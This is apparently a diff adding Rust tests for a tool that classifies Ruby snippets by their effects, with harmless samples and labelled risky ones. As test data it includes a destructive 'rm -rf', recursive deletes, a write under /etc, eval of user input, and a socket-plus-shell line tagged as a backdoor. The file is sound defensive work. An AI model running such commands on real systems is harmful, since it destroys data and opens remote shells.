@@ -1,0 +1,66 @@
+use super::{check, harmless};
+use crate::command::Language::Ruby;
+
+#[test]
+fn harmless_ruby_passes() {
+    harmless(
+        Ruby,
+        &[
+            "puts $_ if /x/",
+            "puts 'system(\"id\")', %q(exec), :system",
+            "puts \"a#{1 + 2}b #{'}'}\"",
+            "require 'json'; puts JSON.parse(STDIN.read)['a']",
+            "puts ARGV.map { |x| x.to_i / 2 }.sum",
+            "# `id`\nputs %w[a b].join(',')",
+            "x = y ? 1 : 2; puts x",
+            "puts [1, 2].send(:first)",
+            "puts <<~EOS\n  system('id')\nEOS\nputs 1",
+            "$_.gsub!(/a\\/b/, 'c')",
+            "puts RUBY_VERSION; h = {system: 1, 'a' => ?b}",
+            "def system_name; 'x'; end; puts system_name",
+        ],
+    );
+}
+
+#[test]
+fn ruby_that_does_more_says_what() {
+    check(
+        Ruby,
+        &[
+            ("system('ls')", "shell ls"),
+            ("system 'rm', '-rf', '/x'", "run rm -rf /x"),
+            ("exec '/bin/sh' if true", "shell /bin/sh"),
+            ("puts `id`", "shell id"),
+            ("puts %x(id)", "shell id"),
+            ("puts <<E\n#{system('id')}\nE\n", "shell id"),
+            ("puts \"#{`id`}\"", "shell id"),
+            ("puts \"#{\"#{system('id')}\"}\"", "shell id"),
+            ("Kernel.system('id')", "shell id"),
+            ("::Kernel.exec('id')", "shell id"),
+            ("Kernel.send(:system, 'id')", "!Spawns"),
+            ("Object.send(x, 'id')", "!Evaluates"),
+            ("method(:system).call('id')", "!Spawns"),
+            ("IO.popen(['ls', '-l'])", "run ls -l"),
+            ("IO.popen(%w[ls -l])", "run ls -l"),
+            ("IO.popen('id')", "shell id"),
+            ("open('|id')", "shell id"),
+            ("require 'open3'; Open3.capture2('id')", "shell id"),
+            ("system(\"rm #{x}\")", "!Spawns"),
+            ("eval(ARGV[0])", "!Evaluates"),
+            ("x.instance_eval(y)", "!Evaluates"),
+            ("x /system('id')/ 1", "!Unclear"),
+            ("puts 'a", "!Unclear"),
+            ("File.write('/etc/x', 'y')", "write /etc/x"),
+            ("File.open('a', 'w') { |f| f << 1 }", "write a"),
+            ("puts File.read('a')", "read a"),
+            ("require 'fileutils'; FileUtils.rm_rf(['/a', 'b'])", "delete /a Tree; delete b Tree"),
+            ("File.delete('a')", "delete a Single"),
+            ("require 'open-uri'; URI.open('http://a.test')", "connect http://a.test"),
+            (
+                "require 'socket'; s = TCPSocket.new('a.test', 9); exec 'sh'",
+                "connect a.test; shell sh; !Backdoor",
+            ),
+            ("require 'fiddle'; Fiddle.dlopen('x.so')", "!Spawns"),
+        ],
+    );
+}
